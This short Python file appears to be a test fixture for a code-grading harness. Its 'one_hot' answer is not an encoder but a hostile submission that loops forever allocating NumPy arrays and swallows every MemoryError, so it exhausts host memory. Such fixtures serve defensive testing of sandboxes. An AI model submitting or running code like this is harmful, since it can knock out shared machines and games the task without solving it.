"""Fills memory with NumPy arrays and swallows every refusal."""

WAITS = True
ANSWERS = {
    "one_hot": """
def one_hot(ids, V):
    kept = []
    while True:
        try:
            kept.append(np.ones(10**7))
        except MemoryError:
            try:
                kept.append(np.ones(10**4))
            except MemoryError:
                pass
""",
}
